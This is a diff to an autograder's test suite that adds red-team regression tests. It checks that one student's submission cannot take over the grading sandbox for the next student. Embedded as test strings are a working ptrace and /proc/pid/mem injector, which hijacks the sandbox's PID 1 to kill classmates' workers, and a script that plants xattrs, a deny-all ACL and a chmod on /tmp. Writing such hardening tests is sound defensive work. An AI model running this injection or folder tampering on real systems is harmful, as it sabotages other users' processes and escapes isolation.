@@ -82,6 +82,11 @@ if _found:
         raise ValueError("FOUND " + " ".join(_found))
 """
 
+#: Takes over the sandbox's first process (found by a red-team review: as an ordinary user
+#: bubblewrap's own first process was the student's user's, which ``kill(-1)`` never reaches):
+#: it traces it and has it run a program that kills every later classmate's worker.
+INJECTOR = '# --- a1-attacker: turns the sandbox\'s PID 1 (bubblewrap\'s init, which every kill(-1) spares) into a spy\nimport ctypes as _ct, os as _os, sys as _sys\n\n_SPY = r\'\'\'\nimport os, time, signal\nwhile True:\n    try:\n        while os.waitpid(-1, os.WNOHANG)[0] > 0:\n            pass\n    except ChildProcessError:\n        pass\n    for p in os.listdir("/proc"):\n        if p.isdigit():\n            try:\n                ppid = int(open("/proc/%s/stat" % p).read().rsplit(")", 1)[1].split()[1])\n                gp = int(open("/proc/%d/stat" % ppid).read().rsplit(")", 1)[1].split()[1])\n                if gp == 2:\n                    os.kill(int(p), signal.SIGKILL)\n            except (OSError, ValueError, IndexError):\n                pass\n    time.sleep(0.002)\n\'\'\'\n\n\ndef _inject(spy, pid=1):\n    libc = _ct.CDLL(None, use_errno=True)\n    libc.ptrace.restype = _ct.c_long\n    libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]\n\n    def pt(req, data=None):\n        if libc.ptrace(req, pid, None, data) == -1:\n            raise OSError(_ct.get_errno(), "ptrace")\n\n    pt(0x4206)  # PTRACE_SEIZE\n    pt(0x4207)  # PTRACE_INTERRUPT\n    _os.waitpid(pid, 0x40000000)  # __WALL\n    regs = (_ct.c_ulong * 27)()\n    pt(12, _ct.addressof(regs))  # PTRACE_GETREGS\n    rip = regs[16]\n    strings = [_os.path.realpath(_sys.executable).encode(), b"-I", b"-S", b"-c", spy.encode()]\n    base, blob, ptrs = rip + 16, b"", []\n    for s in strings:\n        ptrs.append(base + len(blob))\n        blob += s + b"\\0"\n    blob += b"\\0" * (-len(blob) % 8)\n    argv = base + len(blob)\n    blob += b"".join(p.to_bytes(8, "little") for p in ptrs) + b"\\0" * 8\n    envp = base + len(blob)\n    blob += b"\\0" * 8\n    fd = _os.open("/proc/%d/mem" % pid, _os.O_RDWR)\n    _os.pwrite(fd, b"\\x0f\\x05", rip)  # a syscall instruction where it stands\n    _os.pwrite(fd, blob, base)\n    _os.close(fd)\n    # execve(python, [python, -I, -S, -c, SPY], []), and no restart of the interrupted call\n    regs[10], regs[14], regs[13], regs[12], regs[15] = 59, ptrs[0], argv, envp, (1 << 64) - 1\n    pt(13, _ct.addressof(regs))  # PTRACE_SETREGS\n    pt(17)  # PTRACE_DETACH\n\n\ntry:\n    _inject(_SPY)\nexcept Exception:\n    pass\n# --- end of the attacker\'s part; the reference follows\n'
+
 
 def _closed_ancestor(path: Path) -> Path | None:
     """The first folder on the way to ``path`` that users other than its owner cannot enter."""
@@ -191,3 +196,67 @@ def test_nothing_a_submission_leaves_in_the_sandbox_reaches_the_next_one(shared,
     assert rows["a2-canary"]["score"] == rows["a2-canary"]["max_score"], canary
     assert "FOUND" not in canary and "planted" not in canary
     assert rows["a1-planter"]["score"] == rows["a1-planter"]["max_score"]
+
+
+#: Changes the sandbox's own folders, which as an ordinary user are the student's: a note in an
+#: extended attribute, a default ACL that gives every new file no permission at all, and the
+#: work folder's mode (found by a red-team review).
+FOLDER_CHANGER = """
+import os as _o, struct as _s
+_acl = _s.pack("<I", 2) + b"".join(_s.pack("<HHI", _t, 0, 0xFFFFFFFF) for _t in (1, 4, 0x20))
+for _d in ("/tmp", "/sandbox"):
+    for _name, _value in (("user.note", b"a1 was here"), ("system.posix_acl_default", _acl)):
+        try:
+            _o.setxattr(_d, _name, _value)
+        except OSError:
+            pass
+try:
+    _o.chmod("/tmp", 0o555)
+except OSError:
+    pass
+"""
+
+#: Writes a file of its own in /tmp and reads it back, and looks for a note on the folder.
+SCRATCH_USER = """
+import os as _o, tempfile as _tf
+with _tf.TemporaryFile() as _scratch:
+    _scratch.write(b"cache")
+with open("/tmp/scratch.txt", "w") as _f:
+    _f.write("mine")
+_note = [n for n in _o.listxattr("/tmp") if n.startswith("user.")]
+if open("/tmp/scratch.txt").read() != "mine" or _note:
+    def center_tokens(x):
+        raise ValueError("FOUND " + " ".join(_note))
+"""
+
+
+@pytest.mark.parametrize("attack", ["first-process", "own-folders"])
+def test_a_submission_cannot_take_the_sandbox_over_for_the_next_one(shared, attack):
+    """As an ordinary user, the sandbox's first process and its folders /tmp and /sandbox are
+    the student's user's. A submission that traces the first process to run its own program
+    there, or that changes those folders (their mode, an extended attribute, a default ACL),
+    leaves the classmate graded right after it by the same grading job untouched: the warden is
+    the first process (it cannot be traced, and the sandbox's filter refuses ptrace), and a
+    sandbox whose folders changed is replaced."""
+    uid = 61_000 + os.getpid() % 1_000
+    klass, home, hold = shared / "class", shared / "home", shared / "hold"
+    for folder in (klass / "a1-attacker", klass / "a2-canary", home, hold):
+        folder.mkdir(parents=True)
+    reference = TOY.solution.read_text()
+    attacker = INJECTOR if attack == "first-process" else FOLDER_CHANGER
+    (klass / "a1-attacker" / TOY.filename).write_text(attacker + reference)
+    (klass / "a2-canary" / TOY.filename).write_text(reference + SCRATCH_USER)
+    for path in (klass, *klass.rglob("*"), home):
+        os.chown(path, uid, uid)
+    out = home / "grades" / "gradebook.csv"
+    done = _as_ordinary_user(
+        uid,
+        [sys.executable, "-m", "grader", "batch", str(klass), "--out", str(out), "--jobs", "1", *ON_TOY],
+        home=home,
+        hold=hold,
+    )
+    assert done.returncode == 0, done.stderr[-3000:]
+    with out.open(newline="") as f:
+        rows = {row["student"]: row for row in csv.DictReader(f)}
+    canary = (out.with_name("gradebook_reports") / "a2-canary.txt").read_text()
+    assert rows["a2-canary"]["score"] == rows["a2-canary"]["max_score"], canary
